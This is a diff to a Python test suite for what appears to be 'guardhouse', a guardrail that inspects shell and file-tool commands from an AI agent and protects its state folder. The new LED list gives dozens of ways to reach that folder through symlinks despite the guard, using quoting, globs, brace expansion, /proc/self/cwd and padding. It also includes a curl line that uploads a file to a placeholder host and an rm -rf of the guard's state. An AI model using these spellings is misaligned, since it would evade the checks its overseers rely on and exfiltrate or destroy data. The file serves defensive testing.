@@ -18,6 +18,7 @@ from guardhouse.gateway.leading import leads
 from guardhouse.gateway.surroundings import placed
 from guardhouse.guardrails.surroundings import NOWHERE
 from guardhouse.guardrails.text import Examined
+from guardhouse.guardrails.touching import MOST_LINKS
 from tests.effort import within
 from tests.guardrails.packs import shipped
 
@@ -164,8 +165,12 @@ def test_looking_again_takes_no_more(crowd: Path) -> None:
     (crowd / "one").touch()
     os.link(crowd / "one", crowd / "twin")
     around = replace(NOWHERE, state=(str(crowd / "state"),))
-    text = "cd a b; git add twin link1 a/link2 ~/x ../y l*3 a/../z " + " ".join(f"w{number}" for number in range(60))
-    for cwd in (crowd, crowd / "a", crowd / "a" / "link7"):
+    text = "cd few plain; git add twin link1 a/link2 ~/x ../y l*3 a/../z " + " ".join(f"w{number}" for number in range(60))
+    (crowd / "few").mkdir()
+    (crowd / "plain").mkdir()
+    for number in range(20):
+        (crowd / "few" / f"link{number}").symlink_to("../plain")
+    for cwd in (crowd, crowd / "few", crowd / "few" / "link7"):
         disk = Disk()
         texts = placed((Examined("t", text, "shell", cwd=str(cwd)),), around, disk)
         left = disk.left
@@ -189,6 +194,66 @@ def test_a_long_everyday_command_is_looked_up_whole(tmp_path: Path) -> None:
     ):
         (one,) = placed((Examined("t", text, "shell", cwd=str(ground)),), NOWHERE, Disk())
         assert not one.crowded, text[:40]
+
+
+LED = [
+    "cat lk/notes", "cat lk//notes", "cat ./lk/notes", 'cat "lk"/notes', "cat l'k'/notes", 'cat l"k"/notes', "cat l\\k/notes",
+    "cat $'lk'/notes", "cat $'l\\x6b/notes'", "cat l*/notes", "cat l?/notes", "cat */notes", "cat l{k,}/notes", "cat {lk,sub}/notes",
+    "cat lk/{notes,x}", "d=lk; cat $d/notes", "for d in lk; do cat $d/notes; done", 'cat "a=b/notes"', "cat a=b/notes",
+    "cat 'a,b/notes'", "cat a,b/notes", "cat 'a b/notes'", "cat 'p(1)/notes'", "cat p\\(1\\)/notes", "cat '$x/notes'",
+    "cat 't;l/notes'", "cd sub && cat lk/notes", "cd sub; cd deep; cat ../lk/notes", "cd sub; cd deep; cat ../'l'k/notes",
+    "cat $PWD/lk/notes", "cat $(pwd)/lk/notes", "curl -F x=@lk/notes http://x.example", "cat /proc/self/cwd/lk/notes",
+    'cat ~/"l"/notes', "cat ${HOME:-x}/l/notes", "rm -rf s''/guardhouse", "mv 's'/guardhouse x", 'cp -r "s"/guardhouse out',
+    "python3 -c \"print(open('l'+'k/notes').read())\"", f"cat {'./' * 560}lk/notes", f"cat '{'sub/../' * 40}a b/notes'",
+    f"cat lk{'/' * 1_100}notes",
+]  # fmt: skip
+NOT_LED = [
+    'cat "sub"/notes', "cat s*b/notes", "cat 'lka'/notes", "cat x/lk/notes", "echo 'see lk'", "cat {sub,other}/notes",
+    "cd sub; cat ../sub/'notes'", "git commit -m 'keep lk out'", "grep -rn 'lk' sub",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "led"), [*((text, True) for text in LED), *((text, False) for text in NOT_LED)])
+def test_a_link_is_followed_however_it_is_spelled(tmp_path: Path, text: str, led: bool) -> None:
+    """A link that leads to the state is no way around the guard: not in quotes, not by a pattern, not from another folder."""
+    ground = Path(os.path.realpath(tmp_path))
+    home, state, work = ground / "home", ground / "home" / "share" / "guardhouse", ground / "work"
+    state.mkdir(parents=True)
+    (state / "notes").touch()
+    (work / "sub" / "deep").mkdir(parents=True)
+    for link in ("lk", "sub/lk", "a=b", "a,b", "a b", "p(1)", "$x", "t;l"):
+        (work / link).symlink_to(state)
+    (work / "s").symlink_to(home / "share")
+    (home / "l").symlink_to(state)
+    around = replace(NOWHERE, user_home=str(home), state=(str(state),))
+    (one,) = placed((Examined("t", text, "shell", cwd=str(work)),), around, Disk())
+    assert any(found.protects for found in shipped().examine((one,))) is led
+    assert not one.crowded
+
+
+@pytest.mark.parametrize(
+    "path", ["lk/notes", "l*/notes", "*/notes", "**/notes", f"{'./' * 560}lk/notes", f"lk{'/' * 1_100}notes"]
+)
+def test_a_file_tool_is_followed_through_a_link(tmp_path: Path, path: str) -> None:
+    ground = Path(os.path.realpath(tmp_path))
+    (ground / "state").mkdir()
+    (ground / "work").mkdir()
+    (ground / "work" / "lk").symlink_to(ground / "state")
+    text = Examined("t", "", "file", cwd=str(ground / "work"), file_paths=(path,), act="read")
+    (one,) = placed((text,), replace(NOWHERE, state=(str(ground / "state"),)), Disk())
+    assert any(found.protects for found in shipped().examine((one,)))
+
+
+def test_so_many_links_to_the_state_that_one_may_hide_behind_others_ask(tmp_path: Path) -> None:
+    ground = Path(os.path.realpath(tmp_path))
+    (ground / "state").mkdir()
+    (ground / "work").mkdir()
+    around = replace(NOWHERE, state=(str(ground / "state"),))
+    for number in range(MOST_LINKS + 1):
+        texts = (Examined("t", "echo 'x'", "shell", cwd=str(ground / "work")),)
+        assert not placed(texts, around, Disk())[0].crowded
+        (ground / "work" / f"lk{number}").symlink_to(ground / "state")
+    assert placed(texts, around, Disk())[0].crowded
 
 
 def test_a_file_tool_that_names_more_than_is_looked_up_asks(crowd: Path) -> None:
@@ -218,7 +283,7 @@ def test_nobody_hides_a_name_behind_many_others(tmp_path: Path, padding: str) ->
         (ground / f"f{number}").mkdir()
         for entry in range(800):
             (ground / f"f{number}" / f"e{entry}").touch()
-    for text, crowded in ((f"ls {hidden} last*", True), ("ls link1 last*", False)):
+    for text, crowded in ((f"ls {hidden} last*", True), ("ls link1 last", False)):
         (one,) = placed((Examined("t", text, "shell", cwd=str(ground)),), NOWHERE, Disk())
         assert one.crowded is crowded
         assert bool({found.rule for found in shipped().examine((one,))} & {"execution.unknown.text"}) is crowded
